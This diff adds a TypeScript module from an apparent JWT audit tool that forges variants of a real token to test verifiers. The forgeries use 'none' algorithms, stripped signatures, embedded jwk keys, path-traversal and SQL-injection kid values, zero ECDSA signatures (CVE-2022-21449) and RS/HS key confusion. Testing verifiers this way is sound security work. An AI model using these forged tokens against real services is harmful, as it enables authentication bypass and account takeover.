@@ -1,0 +1,87 @@
+import { createHmac, createPublicKey, generateKeyPairSync, type JsonWebKey, sign } from 'node:crypto'
+import { encodePart, type Jwt } from './jwt.ts'
+
+export interface Attack {
+  readonly id: string
+  readonly says: string
+  readonly token: string
+}
+
+const hmac = (key: string | Buffer, text: string) => createHmac('sha256', key).update(text).digest('base64url')
+
+function resigned(jwt: Jwt, header: object, signature: (signed: string) => string): string {
+  const signed = `${encodePart(header)}.${encodePart(jwt.payload)}`
+  return `${signed}.${signature(signed)}`
+}
+
+/** Another payload under the old signature: what no verifier may take. */
+export function tampered(jwt: Jwt): string {
+  const payload = encodePart({ ...jwt.payload, sojourn_audit: 1 })
+  return `${jwt.signed.split('.')[0]}.${payload}.${jwt.signature}`
+}
+
+/** Tokens that say what the real one says, under a signature that anybody can make. */
+export function attacksOn(jwt: Jwt, publicKeys: readonly JsonWebKey[]): Attack[] {
+  const none = ['none', 'None', 'NONE', 'nOnE'].map((alg) => ({
+    id: `alg ${alg}`,
+    says: `the algorithm "${alg}" and no signature`,
+    token: resigned(jwt, { ...jwt.header, alg }, () => ''),
+  }))
+  return [
+    ...none,
+    { id: 'no signature', says: 'its own algorithm and no signature', token: `${jwt.signed}.` },
+    ...ownKey(jwt),
+    ...keyIds(jwt),
+    ...psychic(jwt),
+    ...publicKeys.flatMap((key, i) => confused(jwt, key, i)),
+  ]
+}
+
+/** The verifier must not take the key that the token brings. */
+function ownKey(jwt: Jwt): Attack[] {
+  const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
+  const jwk = { ...publicKey.export({ format: 'jwk' }), use: 'sig', alg: 'RS256', kid: 'sojourn-audit' }
+  const header = { ...jwt.header, alg: 'RS256', jwk, kid: 'sojourn-audit' }
+  const token = resigned(jwt, header, (signed) => sign('sha256', Buffer.from(signed), privateKey).toString('base64url'))
+  return [{ id: 'jwk', says: 'a key of its own in the header (jwk)', token }]
+}
+
+/** A key id that becomes part of a path or of a query chooses the key. */
+function keyIds(jwt: Jwt): Attack[] {
+  const kids: [string, string, string][] = [
+    ['kid: path', '../../../../../../../dev/null', ''],
+    ['kid: path, NUL', '../../../../../../../dev/null', '\0'],
+    ['kid: query', "sojourn-audit' UNION SELECT 'sojourn", 'sojourn'],
+  ]
+  return kids.map(([id, kid, key]) => ({
+    id,
+    says: `the key id ${kid} and a signature by the key it leads to`,
+    token: resigned(jwt, { ...jwt.header, alg: 'HS256', kid }, (signed) => hmac(key, signed)),
+  }))
+}
+
+/** ECDSA signatures of nothing, which verifiers have taken (CVE-2022-21449). */
+function psychic(jwt: Jwt): Attack[] {
+  if (!String(jwt.header.alg).startsWith('ES')) return []
+  const zeros = Buffer.alloc({ ES256: 64, ES384: 96, ES512: 132 }[String(jwt.header.alg)] ?? 64).toString('base64url')
+  return [
+    { id: 'blank ECDSA signature', says: 'a signature of zeros', token: `${jwt.signed}.${zeros}` },
+    { id: 'blank ECDSA signature, DER', says: 'a signature of zeros in DER', token: `${jwt.signed}.MAYCAQACAQA` },
+  ]
+}
+
+/** The public key, taken for the secret of an HMAC. */
+function confused(jwt: Jwt, key: JsonWebKey, index: number): Attack[] {
+  try {
+    const publicKey = createPublicKey({ key, format: 'jwk' })
+    const spki = publicKey.export({ type: 'spki', format: 'pem' }).toString()
+    const pkcs1 = key.kty === 'RSA' ? [publicKey.export({ type: 'pkcs1', format: 'pem' }).toString()] : []
+    return [spki, spki.trimEnd(), ...pkcs1].map((pem, i) => ({
+      id: `key confusion ${index + 1}.${i + 1}`,
+      says: 'HS256 with the public key as secret',
+      token: resigned(jwt, { ...jwt.header, alg: 'HS256' }, (signed) => hmac(pem, signed)),
+    }))
+  } catch {
+    return []
+  }
+}
